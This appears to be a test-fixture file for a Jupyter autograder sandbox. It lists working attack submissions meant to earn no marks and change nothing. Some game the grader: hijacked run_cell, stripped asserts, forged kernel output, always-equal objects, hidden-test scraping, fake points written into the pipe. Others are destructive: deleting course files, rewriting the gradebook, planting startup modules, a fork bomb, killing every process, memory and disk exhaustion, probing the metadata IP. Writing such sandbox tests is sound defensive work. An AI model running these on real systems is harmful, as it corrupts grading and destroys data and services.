"""Submissions that want marks for nothing, or harm. Each is code of a student who answers nothing.

The code runs in a cell of the student's own at the notebook's top, beside stubs: it must earn no
point, and change nothing outside of its own kernel. `{course}` stands for the course's folder.
"""

ATTACKS = {
    # The test cells are not run, or something else is.
    "input transformer blanks the tests": """
get_ipython().input_transformers_cleanup.append(lambda lines: ["6\\n"])
""",
    "run_cell is replaced": """
from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
def run_cell(self, *args, **kwargs):
    result = ExecutionResult(None)
    result.result = 99
    self.displayhook(99)
    return result
InteractiveShell.run_cell = run_cell
type(get_ipython()).run_cell_async = run_cell
""",
    "asserts are stripped from the syntax tree": """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Compare(self, node):
        return ast.Constant(True)
get_ipython().ast_transformers.append(Strip())
""",
    "a post-run hook prints points": """
get_ipython().events.register("post_run_cell", lambda result: get_ipython().displayhook(99))
""",
    "the pre-run hook defines what is asked for": """
get_ipython().events.register("pre_run_cell", lambda info: exec("raise SystemExit"))
""",
    # Results that the grader would count.
    "a number is displayed early": """
from IPython.display import display
class Points:
    def _repr_mimebundle_(self, **kwargs):
        return {"text/plain": "99"}
display(Points())
get_ipython().displayhook(99)
""",
    "messages are forged through the session": """
import threading, time
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel
def forge():
    while True:
        content = {"data": {"text/plain": "99"}, "metadata": {}, "execution_count": 1}
        parent = kernel.get_parent("shell")
        kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)
        time.sleep(0.01)
threading.Thread(target=forge, daemon=True).start()
""",
    "a text formatter for numbers": """
get_ipython().display_formatter.formatters["text/plain"].for_type(float, lambda *a: "99")
get_ipython().display_formatter.formatters["text/plain"].for_type(int, lambda o, p, c: p.text("99"))
""",
    # Values that compare as one likes.
    "equal to everything": """
class Yes(int):
    __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = int.__hash__
    __add__ = __radd__ = __mod__ = __call__ = lambda self, *args: self
class Numbers:
    double = inverse = lambda self, a: Yes()
evens = lambda n: Yes()
""",
    "a list that equals everything": """
class Yes(list):
    __eq__ = lambda self, other: True
evens = lambda n: Yes()
""",
    "builtins are replaced": """
import builtins
builtins.sum = lambda *args: 99
builtins.float = lambda *args: 99.0
builtins.range = lambda *args: []
sum, float, abs = builtins.sum, builtins.float, builtins.sum
""",
    "operators of a given function are replaced": """
import builtins
class Always:
    __eq__ = __le__ = __lt__ = lambda self, other: True
    __mod__ = __add__ = lambda self, other: self
builtins.Always = Always
mod = lambda a: Always()
""",
    "expected values are read from the caller's frame": """
import sys
class Numbers:
    def double(self, a):
        frame = sys._getframe()
        while frame:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if isinstance(value, str) and "double_points" + " +=" in value:
                    return 2 * a
            frame = frame.f_back
        return None
""",
    "the hidden tests are looked for in the memory and on the disk": """
import gc, glob
texts = [o for o in gc.get_objects() if isinstance(o, str) and "double_points" in o]
for path in glob.glob("/**/*.ipynb", recursive=True) + glob.glob("{course}/**/*", recursive=True):
    try:
        texts.append(open(path).read())
    except Exception:
        pass
class Numbers:
    def double(self, a):
        return 2 * a if any("double_points" + " +=" in text for text in texts) else None
""",
    # The agent, and the pipe to the grader.
    "the agent's code is taken apart": """
import builtins, json
original = builtins.exec
def lying(code, *rest):
    result = original(code, *rest)
    if rest and isinstance(rest[0], dict) and "Agent" in rest[0]:
        rest[0]["Agent"].do_call = lambda self, *args: True
        rest[0]["Agent"].do_lookup = lambda self, *args: [True]
    return result
builtins.exec = lying
""",
    "points are written into the pipe": """
import json, os, struct
text = json.dumps({{"ok": 99, "points": 99}}).encode()
for number in range(3, 64):
    try:
        os.write(number, struct.pack("!II", len(text), 0) + text)
    except OSError:
        pass
""",
    "the pipe is filled with noise": """
import os
for number in range(3, 64):
    try:
        if os.path.realpath(f"/proc/self/fd/{{number}}").startswith("/proc"):
            os.write(number, os.urandom(64))
    except OSError:
        pass
""",
    "the pipe announces gigabytes": """
import os, struct
for number in range(3, 64):
    try:
        os.write(number, struct.pack("!II", 2**32 - 1, 2**32 - 1))
    except OSError:
        pass
""",
    "the pipe is closed": """
import os
for number in range(3, 64):
    if "socket" in os.path.realpath(f"/proc/self/fd/{{number}}"):
        os.close(number)
""",
    "answers without end": """
class Numbers:
    def double(self, a):
        return list(range(10**7))
    def inverse(self, a):
        return 10**100_000
def evens(n):
    x = []
    for _ in range(10**5):
        x = [x]
    return x
""",
    "answers too late": """
import time
class Numbers:
    def double(self, a):
        while True:
            try:
                time.sleep(60)
            except BaseException:
                pass
    inverse = double
""",
    # Harm to others.
    "files of the course are changed": """
import glob, os, shutil
open_ = open
for path in glob.glob("{course}/**/*", recursive=True) + ["{course}/gradebook.db"]:
    try:
        os.remove(path)
    except Exception:
        pass
    try:
        open_(path, "w").write("")
    except Exception:
        pass
""",
    "marks are written into the gradebook": """
import sqlite3, glob
for path in glob.glob("/**/gradebook.db", recursive=True) + ["{course}/gradebook.db"]:
    try:
        base = sqlite3.connect(path)
        base.execute("update grade set manual_score = 99")
        base.commit()
    except Exception:
        pass
""",
    "a start-up file is planted": """
import os
for home in (os.path.expanduser("~"), "/root", os.environ.get("IPYTHONDIR", "/root/.ipython")):
    for folder in (home + "/.ipython/profile_default/startup", home + "/profile_default/startup"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(folder + "/planted.py", "w").write("class Numbers: pass")
        except OSError:
            pass
""",
    "modules are planted": """
import site, sys
for folder in [*sys.path, *site.getsitepackages(), "{course}", "/usr/lib/python3", "/tmp"]:
    for name in ("planted_module.py", "sitecustomize.py"):
        try:
            open((folder or ".") + "/" + name, "w").write("raise SystemExit")
        except OSError:
            pass
""",
    "processes are left behind": """
import os, subprocess, sys
code = "import time; time.sleep(3600)"
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
""",
    "everything in sight is killed": """
import os, signal
for pid in range(1, 70000):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
    "memory is eaten": """
hoard = []
while True:
    hoard.append(bytearray(2**26))
""",
    "a fork bomb": """
import os
while True:
    os.fork()
""",
    "the disk is filled": """
with open("big", "wb") as file:
    while True:
        file.write(bytes(2**24))
""",
    "output without end": """
import sys
for _ in range(400):
    print("x" * 10**5)
""",
    "the network is opened": """
import socket, urllib.request
reached = []
for host in ("127.0.0.1", "1.1.1.1", "169.254.169.254"):
    for port in (22, 53, 80, 443, 8888):
        try:
            socket.create_connection((host, port), timeout=0.2)
            reached.append(host)
        except OSError:
            pass
class Numbers:
    def double(self, a):
        return 2 * a if reached else None
""",
}


def source(name: str, course: object) -> str:
    """Return the code of an attack on this course."""
    return ATTACKS[name].replace("{{", "{").replace("}}", "}").replace("{course}", str(course))
